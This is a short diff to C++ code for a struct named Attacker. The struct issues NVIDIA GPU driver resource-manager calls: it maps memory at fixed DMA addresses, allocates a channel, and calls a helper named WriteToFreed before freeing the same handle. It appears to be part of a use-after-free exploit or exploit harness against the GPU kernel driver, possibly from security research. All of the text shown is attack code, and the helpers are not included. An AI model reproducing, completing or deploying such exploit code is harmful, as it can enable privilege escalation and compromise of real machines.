@@ -209,16 +209,7 @@ struct Attacker {
       (void)Group(client, what.handle, &status);
       Count(status);
       for (int i = 0; i < 64; ++i) {
-        rm::NVOS46_PARAMETERS_V535 map{};
-        map.hClient = client.root;
-        map.hDevice = Client::kDevice;
-        map.hDma = range;
-        map.hMemory = what.handle;
-        map.length = rm::kPage4K;
-        map.flags = rm::NVOS46_FLAGS_PAGE_SIZE_4KB << 8 | 1U << 15;  // at a fixed address
-        map.dmaOffset = kRangeBase + mapped * rm::kPageHuge;
-        if (Plainly(client.ctl, rm::NV_ESC_RM_MAP_MEMORY_DMA, &map, sizeof(map)) != 0 ||
-            map.status != rm::NV_OK) {
+        if (MapAt(client, range, what.handle, kRangeBase + mapped * rm::kPageHuge) != rm::NV_OK) {
           break;
         }
         ++mapped;
@@ -233,23 +224,10 @@ struct Attacker {
     if (what.client != client.root) {
       return;
     }
-    rm::NV_CHANNEL_ALLOC_PARAMS_V535 params{};
-    params.hObjectError = what.handle;
-    params.gpFifoEntries = 16;
-    params.engineType = rm::NV2080_ENGINE_TYPE_GRAPHICS;
-    const std::uint32_t channel = client.next++;
-    const std::uint32_t made =
-        client.Alloc(Client::kDevice, channel, rm::VOLTA_CHANNEL_GPFIFO_A, &params, sizeof(params));
-    Count(made);
-    if (made != rm::NV_OK) {
-      return;
+    if (WriteToFreed(client, what.handle, client.next++)) {
+      ++uses;
+      (void)client.Free(what.handle);
     }
-    (void)client.Free(what.handle);
-    rm::NVC36F_CTRL_CMD_GPFIFO_GET_WORK_SUBMIT_TOKEN_PARAMS token{};
-    (void)client.Control(channel, rm::NVC36F_CTRL_CMD_GPFIFO_GET_WORK_SUBMIT_TOKEN, &token,
-                         sizeof(token));
-    (void)client.Free(channel);
-    (void)client.Free(what.handle);
   }
 };
 
